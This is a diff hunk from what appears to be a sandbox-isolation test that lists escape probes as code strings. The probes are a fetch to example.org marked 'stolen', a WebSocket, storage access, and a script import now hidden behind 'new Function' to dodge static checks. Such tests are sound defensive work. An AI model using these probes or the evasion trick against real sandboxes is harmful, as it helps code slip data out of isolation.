@@ -121,7 +121,7 @@ const scope = globalThis as any;
       remote: 'fetch("https://example.org/?stolen")',
       socket:
         'new Promise((resolve, reject) => { const s = new WebSocket("ws://127.0.0.1:9/"); s.onopen = resolve; s.onerror = reject; })',
-      script: `scope.importScripts ? scope.importScripts("${site().url}embed.js?stolen") : import("${site().url}embed.js?stolen")`,
+      script: `new Function("url", "return import(url)")("${site().url}embed.js?stolen")`,
       localStorage: "scope.localStorage.length",
       indexedDB:
         'new Promise((resolve, reject) => { const r = scope.indexedDB.open("x"); r.onsuccess = resolve; r.onerror = reject; })',
